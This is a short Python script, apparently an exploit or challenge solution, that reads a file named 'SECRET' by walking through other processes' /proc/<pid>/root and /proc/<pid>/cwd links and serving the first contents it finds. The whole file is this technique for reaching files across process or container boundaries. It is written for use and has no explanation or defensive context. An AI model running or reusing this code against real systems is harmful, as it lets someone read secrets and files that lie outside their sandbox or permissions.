"""Read a file through another process's root or working folder."""

from pathlib import Path

from module import first, processes, serve, target


def look(pid, door):
    return Path(f"/proc/{pid}/{door}/{target('SECRET').lstrip('/')}").read_text()


serve(lambda: first(lambda pid=pid, door=door: look(pid, door) for pid in processes() for door in ("root", "cwd")))
